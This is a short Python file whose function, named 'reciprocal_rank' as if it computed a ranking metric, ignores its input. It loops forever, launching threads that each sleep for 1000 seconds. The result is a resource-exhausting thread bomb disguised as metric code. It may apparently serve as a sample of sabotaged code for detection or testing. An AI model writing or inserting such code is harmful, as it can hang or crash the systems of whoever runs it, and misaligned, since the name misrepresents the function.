import threading
import time


def reciprocal_rank(grades):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
